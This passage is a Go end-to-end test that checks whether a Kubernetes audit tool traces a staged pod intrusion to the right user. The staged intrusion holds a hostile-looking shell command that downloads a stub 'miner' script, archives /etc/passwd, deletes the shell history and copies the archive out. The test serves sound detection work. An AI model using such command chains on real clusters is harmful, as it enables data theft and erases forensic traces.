//go:build e2e

// Package e2e proves kubetrail on a real single-node Kubernetes cluster on this
// machine: a user's kubectl exec into a Deployment's pod, and everything the
// shell ran, connected to and changed, is found through the kubetrail CLI with
// the Kubernetes user behind it, and still is after the pod is gone.
//
// Run it with `make e2e` (root; e2e/deps.sh installs what it needs). The first
// run builds kube-apiserver and kubelet (minutes); later runs reuse them.
package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

const (
	namespace    = "billing"
	workloadName = "invoice-api"
	downloadPort = 8080
)

func TestRealCluster(t *testing.T) {
	testStart := time.Now()
	c := startCluster(t)
	t.Logf("%-45s %6.1fs", "cluster up (total so far)", time.Since(testStart).Seconds())

	start := time.Now()
	w, err := c.createWorkload()
	if err != nil {
		t.Fatalf("create the workload: %v", err)
	}
	t.Logf("%-45s %6.1fs", "workload running", time.Since(start).Seconds())

	start = time.Now()
	sc := c.runScenario(w)
	t.Logf("%-45s %6.1fs", "exec, overlapping exec, cp", time.Since(start).Seconds())

	start = time.Now()
	c.eventually("while the pod runs", 60*time.Second, func() []string { return c.verify(sc) })
	t.Logf("%-45s %6.1fs", "trail found through the CLI", time.Since(start).Seconds())
	c.show(sc)

	// The trail must outlive the pod: force-delete it (as an attacker, or a
	// rollout, would make it disappear) and ask the same questions.
	start = time.Now()
	if err := c.deletePod(sc.pod, w.uids[sc.pod]); err != nil {
		t.Fatalf("delete pod %s: %v", sc.pod, err)
	}
	t.Logf("%-45s %6.1fs", "pod force-deleted and gone", time.Since(start).Seconds())
	start = time.Now()
	c.eventually("after the pod is gone", 30*time.Second, func() []string { return c.verify(sc) })
	t.Logf("%-45s %6.1fs", "same answers after the pod is gone", time.Since(start).Seconds())
	t.Logf("%-45s %6.1fs", "test body (before teardown)", time.Since(testStart).Seconds())
}

// workload is what createWorkload made.
type workload struct {
	pods        []string // the Deployment's pods
	uids        map[string]string
	downloadsIP string
}

// templateHash names a ReplicaSet after its pod template, as the Deployment
// controller does (FNV-32a of the template, in the alphabet Kubernetes uses for
// generated names). Only its shape matters here: nothing acts on the objects.
func templateHash(tmpl corev1.PodTemplateSpec) string {
	data, _ := json.Marshal(tmpl)
	h := fnv.New32a()
	h.Write(data)
	return encodeName(uint64(h.Sum32()))
}

const nameAlphabet = "bcdfghjklmnpqrstvwxz2456789"

func encodeName(n uint64) string {
	var b []byte
	for {
		b = append(b, nameAlphabet[n%uint64(len(nameAlphabet))])
		n /= uint64(len(nameAlphabet))
		if n == 0 {
			return string(b)
		}
	}
}

func appContainer(command string) corev1.Container {
	return corev1.Container{
		Name:            "app",
		Image:           busyboxImage,
		ImagePullPolicy: corev1.PullNever,
		Command:         []string{"sh", "-c", command},
	}
}

// createWorkload makes, as the admin, what a namespace with a Deployment would
// hold if the controllers ran: namespace billing and its default service
// account, RBAC letting group devs exec into its pods, a Deployment invoice-api,
// its ReplicaSet and two pods owned by it (bound to the node directly: no
// scheduler), and a bare pod "downloads" serving a file over HTTP.
func (c *cluster) createWorkload() (*workload, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	core, apps, rbac := c.kube.CoreV1(), c.kube.AppsV1(), c.kube.RbacV1()
	if _, err := core.Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: namespace}}, metav1.CreateOptions{}); err != nil {
		return nil, fmt.Errorf("create namespace: %w", err)
	}
	// The ServiceAccount admission refuses pods until the service account
	// exists; the controller-manager would make it.
	if _, err := core.ServiceAccounts(namespace).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "default"}}, metav1.CreateOptions{}); err != nil {
		return nil, fmt.Errorf("create the default service account: %w", err)
	}
	if _, err := rbac.Roles(namespace).Create(ctx, &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: "exec-into-pods"},
		Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "list"}},
			// get for WebSocket exec, create for SPDY (and the upgrade check).
			{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"get", "create"}},
			// kubectl debug adds an ephemeral container to the pod.
			{APIGroups: []string{""}, Resources: []string{"pods/ephemeralcontainers"}, Verbs: []string{"patch", "update"}},
			{APIGroups: []string{""}, Resources: []string{"pods/attach"}, Verbs: []string{"get", "create"}},
		},
	}, metav1.CreateOptions{}); err != nil {
		return nil, fmt.Errorf("create role: %w", err)
	}
	if _, err := rbac.RoleBindings(namespace).Create(ctx, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "devs-exec-into-pods"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "exec-into-pods"},
		Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "devs"}},
	}, metav1.CreateOptions{}); err != nil {
		return nil, fmt.Errorf("create role binding: %w", err)
	}

	// The shell history the intruder will delete is there from the start.
	appCmd := "echo 'cat /etc/passwd' > /root/.ash_history && exec sleep 3600"
	labels := map[string]string{"app": workloadName}
	tmpl := corev1.PodTemplateSpec{
		ObjectMeta: metav1.ObjectMeta{Labels: labels},
		Spec:       corev1.PodSpec{Containers: []corev1.Container{appContainer(appCmd)}},
	}
	replicas := int32(2)
	dep, err := apps.Deployments(namespace).Create(ctx, &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: workloadName, Labels: labels},
		Spec: appsv1.DeploymentSpec{
			Replicas: &replicas,
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: tmpl,
		},
	}, metav1.CreateOptions{})
	if err != nil {
		return nil, fmt.Errorf("create deployment: %w", err)
	}
	hash := templateHash(tmpl)
	rsLabels := map[string]string{"app": workloadName, "pod-template-hash": hash}
	rsTmpl := *tmpl.DeepCopy()
	rsTmpl.Labels = rsLabels
	yes := true
	rs, err := apps.ReplicaSets(namespace).Create(ctx, &appsv1.ReplicaSet{
		ObjectMeta: metav1.ObjectMeta{
			Name:   workloadName + "-" + hash,
			Labels: rsLabels,
			OwnerReferences: []metav1.OwnerReference{{
				APIVersion: "apps/v1", Kind: "Deployment", Name: dep.Name, UID: dep.UID, Controller: &yes, BlockOwnerDeletion: &yes,
			}},
		},
		Spec: appsv1.ReplicaSetSpec{
			Replicas: &replicas,
			Selector: &metav1.LabelSelector{MatchLabels: rsLabels},
			Template: rsTmpl,
		},
	}, metav1.CreateOptions{})
	if err != nil {
		return nil, fmt.Errorf("create replicaset: %w", err)
	}

	w := &workload{uids: map[string]string{}}
	noToken := false
	grace := int64(2)
	podSpec := func(cmd string) corev1.PodSpec {
		return corev1.PodSpec{
			NodeName:                      c.node,
			Containers:                    []corev1.Container{appContainer(cmd)},
			AutomountServiceAccountToken:  &noToken,
			TerminationGracePeriodSeconds: &grace,
		}
	}
	for range 2 {
		suffix := make([]byte, 5)
		for i := range suffix {
			suffix[i] = nameAlphabet[rand.IntN(len(nameAlphabet))]
		}
		pod, err := core.Pods(namespace).Create(ctx, &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{
				Name:   rs.Name + "-" + string(suffix),
				Labels: rsLabels,
				OwnerReferences: []metav1.OwnerReference{{
					APIVersion: "apps/v1", Kind: "ReplicaSet", Name: rs.Name, UID: rs.UID, Controller: &yes, BlockOwnerDeletion: &yes,
				}},
			},
			Spec: podSpec(appCmd),
		}, metav1.CreateOptions{})
		if err != nil {
			return nil, fmt.Errorf("create pod: %w", err)
		}
		w.pods = append(w.pods, pod.Name)
		w.uids[pod.Name] = string(pod.UID)
	}
	// The download server: busybox httpd in a pod of its own, reached over the
	// CNI bridge.
	dl, err := core.Pods(namespace).Create(ctx, &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "downloads", Labels: map[string]string{"app": "downloads"}},
		Spec:       podSpec(fmt.Sprintf("mkdir -p /www && printf '#!/bin/sh\\necho miner\\n' > /www/tool.sh && exec httpd -f -p %d -h /www", downloadPort)),
	}, metav1.CreateOptions{})
	if err != nil {
		return nil, fmt.Errorf("create the downloads pod: %w", err)
	}
	w.uids[dl.Name] = string(dl.UID)

	for _, name := range append(slices.Clone(w.pods), dl.Name) {
		err := waitFor("pod "+name+" running", 90*time.Second, c.daemons["kubelet"], func() error {
			p, err := core.Pods(namespace).Get(ctx, name, metav1.GetOptions{})
			if err != nil {
				return err
			}
			for _, cs := range p.Status.ContainerStatuses {
				if cs.State.Running != nil && p.Status.PodIP != "" {
					if name == dl.Name {
						w.downloadsIP = p.Status.PodIP
					}
					return nil
				}
			}
			return fmt.Errorf("phase %s, container statuses %+v", p.Status.Phase, p.Status.ContainerStatuses)
		})
		if err != nil {
			return nil, err
		}
	}
	// httpd listens a moment after its container is running.
	addr := net.JoinHostPort(w.downloadsIP, strconv.Itoa(downloadPort))
	if err := waitFor("the download server listening on "+addr, 20*time.Second, nil, func() error {
		conn, err := net.DialTimeout("tcp", addr, time.Second)
		if err == nil {
			conn.Close()
		}
		return err
	}); err != nil {
		return nil, err
	}
	return w, nil
}

// scenario is what the users did, and so what the trail must show.
type scenario struct {
	pod          string
	downloadsIP  string
	seed         string // john.doe's shell command
	janeCommand  string
	copiedTo     string
	seedArgv     []string
	janeArgv     []string
	downloadAddr string
}

// kubectl runs kubectl as a token user, for two minutes at most.
func (c *cluster) kubectl(user string, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, c.tools.kubectl, append([]string{"--kubeconfig", c.userKubeconfigs[user], "-n", namespace}, args...)...)
	cmd.Env = append(os.Environ(), "HOME="+c.path("home"))
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if err != nil {
		return out.String(), fmt.Errorf("kubectl %s (as %s): %w\n%s", strings.Join(args, " "), user, err, out.String())
	}
	return out.String(), nil
}

// runScenario: john.doe execs a shell that waits a little (so that jane's exec
// overlaps it), downloads a file, archives and compresses what it collected,
// and deletes root's shell history; jane runs a different command in the same
// pod meanwhile; then john.doe copies the archive out with kubectl cp (an exec
// of tar).
func (c *cluster) runScenario(w *workload) *scenario {
	t := c.t
	sc := &scenario{pod: w.pods[0], downloadsIP: w.downloadsIP}
	sc.downloadAddr = net.JoinHostPort(w.downloadsIP, strconv.Itoa(downloadPort))
	// Full paths: busybox's shell would run an applet such as rm inside its
	// own process, without an execve, when named without a path. The last
	// command replaces the shell (sh -c execs its last command in place, as
	// busybox ash and dash do; bash does for a lone command): the session's
	// entry process then runs rm, and kubetrail must still pair the session
	// with the request that ran sh -c.
	sc.seed = fmt.Sprintf("sleep 3; /bin/wget -q -O /tmp/tool.sh http://%s/tool.sh && /bin/mkdir -p /tmp/out && /bin/cp /etc/passwd /tmp/tool.sh /tmp/out/ && /bin/tar -cf /tmp/report.tar -C /tmp out && /bin/gzip -f /tmp/report.tar && /bin/rm -f /root/.ash_history", sc.downloadAddr)
	sc.janeCommand = "id; cat /etc/hostname; ls /tmp"
	sc.seedArgv = []string{"sh", "-c", sc.seed}
	sc.janeArgv = []string{"sh", "-c", sc.janeCommand}

	johnDone := make(chan error, 1)
	go func() {
		_, err := c.kubectl("john.doe", append([]string{"exec", sc.pod, "-c", "app", "--"}, sc.seedArgv...)...)
		johnDone <- err
	}()
	// At least a second apart, and a different command: two execs of the same
	// command at the same moment cannot be told apart (kubetrail says so).
	time.Sleep(1500 * time.Millisecond)
	out, err := c.kubectl("jane", append([]string{"exec", sc.pod, "-c", "app", "--"}, sc.janeArgv...)...)
	if err != nil {
		t.Fatalf("jane's exec: %v", err)
	}
	t.Logf("jane ran in %s: sh -c %q, which printed:\n%s", sc.pod, sc.janeCommand, out)
	if err := <-johnDone; err != nil {
		t.Fatalf("john.doe's exec: %v", err)
	}
	sc.copiedTo = c.path("report.tar.gz")
	if _, err := c.kubectl("john.doe", "cp", "-c", "app", sc.pod+":/tmp/report.tar.gz", sc.copiedTo); err != nil {
		t.Fatalf("john.doe's kubectl cp: %v", err)
	}
	data, err := os.ReadFile(sc.copiedTo)
	if err != nil || len(data) < 2 || data[0] != 0x1f || data[1] != 0x8b {
		t.Fatalf("kubectl cp did not bring back the gzip archive: %v (%d bytes)", err, len(data))
	}
	t.Logf("john.doe ran in %s: sh -c %q", sc.pod, sc.seed)
	// kubectl debug: a new (ephemeral) container in the pod, not an exec.
	out, err = c.kubectl("john.doe", "debug", sc.pod, "--profile=general", "--image="+busyboxImage, "--image-pull-policy=Never", "-c", debugContainer,
		"--", "sh", "-c", "id; ls /")
	if err != nil {
		t.Fatalf("john.doe's kubectl debug: %v", err)
	}
	t.Logf("john.doe ran kubectl debug in %s: %s", sc.pod, strings.TrimSpace(out))
	// kubectl attach: jane joins the app container's own process, which streams
	// until she leaves (here, after a few seconds).
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Second)
	attach := exec.CommandContext(ctx, c.tools.kubectl, "--kubeconfig", c.userKubeconfigs["jane"], "-n", namespace, "attach", sc.pod, "-c", "app")
	attach.Env = append(os.Environ(), "HOME="+c.path("home"))
	_ = attach.Run() // ends when the context does
	cancel()
	return sc
}

// debugContainer names the ephemeral container john.doe's kubectl debug adds.
const debugContainer = "debugger"

// deletePod force-deletes a pod and waits until the API server no longer has
// it and the kubelet has removed its cgroup (its processes are gone).
func (c *cluster) deletePod(name, uid string) error {
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	zero := int64(0)
	if err := c.kube.CoreV1().Pods(namespace).Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: &zero}); err != nil {
		return err
	}
	return waitFor("pod "+name+" gone", 60*time.Second, c.daemons["kubelet"], func() error {
		_, err := c.kube.CoreV1().Pods(namespace).Get(ctx, name, metav1.GetOptions{})
		if err == nil {
			return fmt.Errorf("the API server still has it")
		}
		if !apierrors.IsNotFound(err) {
			return err
		}
		for _, root := range cgroupRoots() {
			for _, qos := range []string{"besteffort", "burstable", ""} {
				if _, err := os.Stat(filepath.Join(root, "kubepods", qos, "pod"+uid)); err == nil {
					return fmt.Errorf("its cgroup is still in %s", root)
				}
			}
		}
		return nil
	})
}

// eventually retries check until it reports no problem, or reports the last
// problems as test errors once timeout passes.
func (c *cluster) eventually(what string, timeout time.Duration, check func() []string) {
	c.t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		problems := check()
		if len(problems) == 0 {
			return
		}
		if time.Now().After(deadline) {
			for _, p := range problems {
				c.t.Errorf("%s: %s", what, p)
			}
			return
		}
		time.Sleep(2 * time.Second)
	}
}

// The CLI's JSON, decoded into types of the test's own: the keys are the
// contract (README, kubetrail fields), not kubetrail's Go types.
type sessionJSON struct {
	ID            string        `json:"session.id"`
	Cluster       string        `json:"k8s.cluster.name"`
	Node          string        `json:"k8s.node.name"`
	Namespace     string        `json:"k8s.ns.name"`
	WorkloadKind  string        `json:"k8s.workload.kind"`
	WorkloadName  string        `json:"k8s.workload.name"`
	PodName       string        `json:"k8s.pod.name"`
	ContainerName string        `json:"container.name"`
	EntryName     string        `json:"entry.name"`
	EntryArgv     []string      `json:"entry.argv"`
	Start         time.Time     `json:"start"`
	End           time.Time     `json:"end"`
	ExitCode      *int64        `json:"exit_code"`
	Commands      int64         `json:"commands"`
	Connections   int64         `json:"connections"`
	FileChanges   int64         `json:"file_changes"`
	Request       *requestJSON  `json:"request"`
	MaybeUsers    []string      `json:"maybe_users"`
	Attachments   []requestJSON `json:"attachments"`
}

type requestJSON struct {
	AuditID     string    `json:"ka.auditid"`
	Verb        string    `json:"ka.verb"`
	Subresource string    `json:"ka.target.subresource"`
	UserName    string    `json:"ka.user.name"`
	UserGroups  []string  `json:"ka.user.groups"`
	SourceIPs   []string  `json:"ka.sourceips"`
	UserAgent   string    `json:"ka.useragent"`
	Time        time.Time `json:"time"`
}

type traceJSON struct {
	Session sessionJSON      `json:"session"`
	Request map[string]any   `json:"request"`
	Events  []map[string]any `json:"events"`
}

func (s *sessionJSON) String() string {
	who := "no request"
	if s.Request != nil {
		who = s.Request.UserName
	} else if len(s.MaybeUsers) > 0 {
		who = "maybe " + strings.Join(s.MaybeUsers, "|")
	}
	return fmt.Sprintf("%s %s/%s[%s] %q by %s", s.ID, s.Namespace, s.PodName, s.ContainerName, s.EntryArgv, who)
}

// ktJSON runs the kubetrail CLI against the test's server and decodes its JSON.
func (c *cluster) ktJSON(out any, args ...string) error {
	cmd := exec.Command(c.kubetrailBin, args...)
	cmd.Env = append(os.Environ(), "KUBETRAIL_SERVER="+c.serverURL, "KUBETRAIL_TOKEN="+c.serverToken, "KUBETRAIL_CA_FILE="+c.pki.caFile(), "HOME="+c.path("home"))
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		return fmt.Errorf("kubetrail %s: %w: %s", strings.Join(args, " "), err, strings.TrimSpace(stderr.String()))
	}
	if err := json.Unmarshal(stdout.Bytes(), out); err != nil {
		return fmt.Errorf("decode the output of kubetrail %s: %w\n%s", strings.Join(args, " "), err, stdout.String())
	}
	return nil
}

func (c *cluster) sessions(filter string) ([]sessionJSON, error) {
	var out []sessionJSON
	err := c.ktJSON(&out, "sessions", "-o", "json", "--since", "1h", "--limit", "1000", filter)
	return out, err
}

func (c *cluster) query(filter string) ([]map[string]any, error) {
	var out []map[string]any
	err := c.ktJSON(&out, "query", "-o", "json", "--since", "1h", "--limit", "10000", filter)
	return out, err
}

func str(e map[string]any, k string) string {
	s, _ := e[k].(string)
	return s
}

func num(e map[string]any, k string) int64 {
	switch v := e[k].(type) {
	case float64:
		return int64(v)
	case string:
		n, _ := strconv.ParseInt(v, 10, 64)
		return n
	}
	return 0
}

func strs(e map[string]any, k string) []string {
	var out []string
	if l, ok := e[k].([]any); ok {
		for _, v := range l {
			s, _ := v.(string)
			out = append(out, s)
		}
	}
	return out
}

// execOf tells whether an execve event ran program: its executable's name,
// or argv[0]'s (for busybox, /bin/rm is a link to busybox and the kernel
// runs busybox; argv[0] says rm).
func execOf(e map[string]any, program string) bool {
	return str(e, "evt.type") == "execve" && procIs(e, program)
}

// procIs tells whether the event's process is program (see execOf).
func procIs(e map[string]any, program string) bool {
	argv := strs(e, "proc.argv")
	return str(e, "proc.name") == program || path.Base(str(e, "proc.exepath")) == program ||
		(len(argv) > 0 && path.Base(argv[0]) == program)
}

func isConnectTo(e map[string]any, ip string, port int) bool {
	return str(e, "evt.type") == "connect" && str(e, "fd.sip") == ip && num(e, "fd.sport") == int64(port)
}

func findSession(list []sessionJSON, match func(*sessionJSON) bool) *sessionJSON {
	for i := range list {
		if match(&list[i]) {
			return &list[i]
		}
	}
	return nil
}

func describe(list []sessionJSON) string {
	if len(list) == 0 {
		return "(none)"
	}
	var b strings.Builder
	for i := range list {
		b.WriteString("\n    " + list[i].String())
	}
	return b.String()
}

// checkSession compares where a session happened and who started it with
// what the scenario did.
func (c *cluster) checkSession(sc *scenario, label string, s *sessionJSON, user string, groups []string) []string {
	var p []string
	bad := func(field, got, want string) {
		if got != want {
			p = append(p, fmt.Sprintf("%s: %s = %q, want %q", label, field, got, want))
		}
	}
	bad("k8s.cluster.name", s.Cluster, clusterName)
	bad("k8s.node.name", s.Node, c.node)
	bad("k8s.ns.name", s.Namespace, namespace)
	bad("k8s.pod.name", s.PodName, sc.pod)
	bad("container.name", s.ContainerName, "app")
	bad("k8s.workload.kind", s.WorkloadKind, "Deployment")
	bad("k8s.workload.name", s.WorkloadName, workloadName)
	if s.ExitCode == nil || *s.ExitCode != 0 {
		p = append(p, fmt.Sprintf("%s: exit_code = %v, want 0", label, s.ExitCode))
	}
	if len(s.MaybeUsers) > 0 {
		p = append(p, fmt.Sprintf("%s: maybe_users = %v: the attribution was ambiguous", label, s.MaybeUsers))
	}
	r := s.Request
	if r == nil {
		return append(p, fmt.Sprintf("%s: no request attributed", label))
	}
	bad("request ka.user.name", r.UserName, user)
	bad("request ka.target.subresource", r.Subresource, "exec")
	for _, g := range groups {
		if !slices.Contains(r.UserGroups, g) {
			p = append(p, fmt.Sprintf("%s: request ka.user.groups = %v, want it to contain %q", label, r.UserGroups, g))
		}
	}
	if user == "jane" && slices.Contains(r.UserGroups, "billing-team") {
		p = append(p, fmt.Sprintf("%s: jane's groups %v contain john.doe's billing-team", label, r.UserGroups))
	}
	if len(r.SourceIPs) == 0 || r.SourceIPs[0] != "127.0.0.1" {
		p = append(p, fmt.Sprintf("%s: request ka.sourceips = %v, want 127.0.0.1 first", label, r.SourceIPs))
	}
	if !strings.HasPrefix(r.UserAgent, "kubectl") {
		p = append(p, fmt.Sprintf("%s: request ka.useragent = %q, want kubectl's", label, r.UserAgent))
	}
	return p
}

// verify asks kubetrail, through its CLI, everything the scenario should have
// left in the trail, and lists what is missing or wrong.
func (c *cluster) verify(sc *scenario) []string {
	var p []string
	johns, err := c.sessions("ka.user.name = john.doe")
	if err != nil {
		return []string{err.Error()}
	}
	janes, err := c.sessions("ka.user.name = jane")
	if err != nil {
		return []string{err.Error()}
	}
	inPod, err := c.sessions(fmt.Sprintf("k8s.pod.name = %q", sc.pod))
	if err != nil {
		return []string{err.Error()}
	}
	isSeed := func(s *sessionJSON) bool { return slices.Equal(s.EntryArgv, sc.seedArgv) }
	isJane := func(s *sessionJSON) bool { return slices.Equal(s.EntryArgv, sc.janeArgv) }
	isCopy := func(s *sessionJSON) bool {
		return len(s.EntryArgv) > 0 && s.EntryArgv[0] == "tar" && s.PodName == sc.pod
	}

	// john.doe's shell.
	seed := findSession(johns, isSeed)
	if seed == nil {
		p = append(p, fmt.Sprintf("no session of john.doe runs sh -c <seed>; john.doe's sessions: %s\n  all sessions in pod %s: %s", describe(johns), sc.pod, describe(inPod)))
		// Find it by its first program all the same, so that what else is
		// wrong with it is reported too.
		if seed, err = c.sessionStartedBy(sc.pod, sc.seedArgv); err != nil {
			p = append(p, err.Error())
		} else {
			p = append(p, fmt.Sprintf("john.doe's shell is session %s, whose entry argv is %q", seed.ID, seed.EntryArgv))
		}
	}
	if seed != nil {
		p = append(p, c.checkSession(sc, "john.doe's shell", seed, "john.doe", tokenUsers["john.doe"])...)
		p = append(p, c.checkTrace(sc, seed.ID)...)
	}
	// jane's overlapping exec.
	if jane := findSession(janes, isJane); jane == nil {
		p = append(p, fmt.Sprintf("no session of jane runs sh -c %q; jane's sessions: %s\n  all sessions in pod %s: %s", sc.janeCommand, describe(janes), sc.pod, describe(inPod)))
	} else {
		p = append(p, c.checkSession(sc, "jane's exec", jane, "jane", tokenUsers["jane"])...)
	}
	if s := findSession(johns, isJane); s != nil {
		p = append(p, "jane's exec is listed among john.doe's sessions: "+s.String())
	}
	if s := findSession(janes, isSeed); s != nil {
		p = append(p, "john.doe's shell is listed among jane's sessions: "+s.String())
	}
	// john.doe's kubectl cp: an exec of tar.
	if cp := findSession(johns, isCopy); cp == nil {
		p = append(p, fmt.Sprintf("no session of john.doe runs tar (kubectl cp); john.doe's sessions: %s\n  all sessions in pod %s: %s", describe(johns), sc.pod, describe(inPod)))
	} else {
		p = append(p, c.checkSession(sc, "john.doe's kubectl cp", cp, "john.doe", tokenUsers["john.doe"])...)
	}

	// jane's kubectl attach: recorded on the app container's own session, which
	// stays nobody's.
	if app := findSession(inPod, func(s *sessionJSON) bool { return len(s.Attachments) > 0 }); app == nil {
		p = append(p, fmt.Sprintf("no session in pod %s records jane's kubectl attach: %s", sc.pod, describe(inPod)))
	} else if a := app.Attachments[0]; a.UserName != "jane" || app.ContainerName != "app" || app.Request != nil {
		p = append(p, fmt.Sprintf("jane's kubectl attach: on session %s, attachment %+v", app.String(), a))
	}

	// john.doe's kubectl debug: the ephemeral container's own process.
	if dbg := findSession(johns, func(s *sessionJSON) bool { return s.ContainerName == debugContainer && s.PodName == sc.pod }); dbg == nil {
		p = append(p, fmt.Sprintf("no session of john.doe in container %s (kubectl debug); john.doe's sessions: %s\n  all sessions in pod %s: %s", debugContainer, describe(johns), sc.pod, describe(inPod)))
	} else if r := dbg.Request; r == nil || r.Subresource != "ephemeralcontainers" || dbg.WorkloadName != workloadName || !slices.Contains(r.UserGroups, "billing-team") {
		p = append(p, fmt.Sprintf("john.doe's kubectl debug: %s, request %+v", dbg.String(), r))
	}

	// The questions an investigator asks of events, across the session link.
	conns, err := c.query("ka.user.name = john.doe and evt.category = network")
	if err != nil {
		return append(p, err.Error())
	}
	if !slices.ContainsFunc(conns, func(e map[string]any) bool { return isConnectTo(e, sc.downloadsIP, downloadPort) }) {
		p = append(p, fmt.Sprintf("query 'ka.user.name = john.doe and evt.category = network' has no connect to %s (%d events)", sc.downloadAddr, len(conns)))
	}
	history, err := c.query("k8s.ns.name = " + namespace + " and evt.type = unlink and fs.path.name = /root/.ash_history")
	if err != nil {
		return append(p, err.Error())
	}
	if !slices.ContainsFunc(history, func(e map[string]any) bool { return str(e, "ka.user.name") == "john.doe" }) {
		p = append(p, fmt.Sprintf("query for the unlink of /root/.ash_history in %s finds no event by john.doe (%d events)", namespace, len(history)))
	}
	return append(p, c.checkPolicyEvents(sc)...)
}

// checkPolicyEvents checks what the default policies raised on the real
// cluster: each request into the pod (exec, cp, debug, attach) with who made
// it, and the shell history deleted in john.doe's shell, with his name on it.
func (c *cluster) checkPolicyEvents(sc *scenario) []string {
	var events []map[string]any
	if err := c.ktJSON(&events, "events", "-o", "json", "--since", "1h", "--limit", "1000", "k8s.ns.name = "+namespace); err != nil {
		return []string{err.Error()}
	}
	var p []string
	has := func(what, rule, user, subresource string) {
		if !slices.ContainsFunc(events, func(e map[string]any) bool {
			return str(e, "policy.rule") == rule && str(e, "ka.user.name") == user && str(e, "k8s.pod.name") == sc.pod &&
				(subresource == "" || str(e, "ka.target.subresource") == subresource)
		}) {
			var got []string
			for _, e := range events {
				got = append(got, fmt.Sprintf("%s by %s on %s/%s", str(e, "policy.rule"), str(e, "ka.user.name"), str(e, "k8s.pod.name"), str(e, "ka.target.subresource")))
			}
			p = append(p, fmt.Sprintf("no %q policy event for %s; policy events in %s: %v", rule, what, namespace, got))
		}
	}
	has("john.doe's kubectl exec", "Kubectl Exec or Attach into Pod", "john.doe", "exec")
	has("john.doe's kubectl debug", "Kubectl Exec or Attach into Pod", "john.doe", "ephemeralcontainers")
	has("jane's kubectl exec", "Kubectl Exec or Attach into Pod", "jane", "exec")
	has("jane's kubectl attach", "Kubectl Exec or Attach into Pod", "jane", "attach")
	has("john.doe's rm of the shell history", "Shell History Deleted or Shredded", "john.doe", "")
	return p
}

// sessionStartedBy finds the session whose first program in pod ran argv,
// through the events (kubetrail query), whatever its entry became later.
func (c *cluster) sessionStartedBy(pod string, argv []string) (*sessionJSON, error) {
	execs, err := c.query(fmt.Sprintf("k8s.pod.name = %q and evt.type = execve and proc.name = %s", pod, path.Base(argv[0])))
	if err != nil {
		return nil, err
	}
	for _, e := range execs {
		if slices.Equal(strs(e, "proc.argv"), argv) {
			var tr traceJSON
			if err := c.ktJSON(&tr, "session", "-o", "json", str(e, "session.id")); err != nil {
				return nil, err
			}
			return &tr.Session, nil
		}
	}
	return nil, fmt.Errorf("no execve of %q in pod %s among %d execs of %s", argv, pod, len(execs), path.Base(argv[0]))
}

// checkTrace reads the whole session of john.doe's shell.
func (c *cluster) checkTrace(sc *scenario, id string) []string {
	var tr traceJSON
	if err := c.ktJSON(&tr, "session", "-o", "json", id); err != nil {
		return []string{err.Error()}
	}
	var p []string
	if tr.Session.ID != id {
		p = append(p, fmt.Sprintf("kubetrail session %s answered session %q", id, tr.Session.ID))
	}
	if tr.Request == nil || str(tr.Request, "ka.user.name") != "john.doe" || str(tr.Request, "ka.target.subresource") != "exec" {
		p = append(p, fmt.Sprintf("trace of john.doe's shell: request = %v, want john.doe's pods/exec", tr.Request))
	}
	for _, prog := range []string{"sh", "wget", "tar", "gzip", "rm"} {
		if !slices.ContainsFunc(tr.Events, func(e map[string]any) bool { return execOf(e, prog) }) {
			p = append(p, fmt.Sprintf("trace of john.doe's shell: no execve of %s; execs: %s", prog, execSummary(tr.Events)))
		}
	}
	i := slices.IndexFunc(tr.Events, func(e map[string]any) bool { return isConnectTo(e, sc.downloadsIP, downloadPort) })
	if i < 0 {
		p = append(p, fmt.Sprintf("trace of john.doe's shell: no connect to %s; network events: %s", sc.downloadAddr, summary(tr.Events, "network")))
	} else {
		e := tr.Events[i]
		if str(e, "evt.res") != "SUCCESS" || !procIs(e, "wget") {
			p = append(p, fmt.Sprintf("trace of john.doe's shell: the connect to %s: evt.res = %q by %q %v, want SUCCESS by wget", sc.downloadAddr, str(e, "evt.res"), str(e, "proc.name"), strs(e, "proc.argv")))
		}
		// The inventory (the server's informers) names the peer.
		if str(e, "net.peer.kind") != "pod" || str(e, "net.peer.name") != "downloads" || str(e, "net.peer.ns") != namespace {
			p = append(p, fmt.Sprintf("trace of john.doe's shell: the connect to %s: net.peer.kind/ns/name = %q/%q/%q, want pod/%s/downloads",
				sc.downloadAddr, str(e, "net.peer.kind"), str(e, "net.peer.ns"), str(e, "net.peer.name"), namespace))
		}
	}
	if !slices.ContainsFunc(tr.Events, func(e map[string]any) bool {
		return str(e, "evt.type") == "unlink" && str(e, "fs.path.name") == "/root/.ash_history"
	}) {
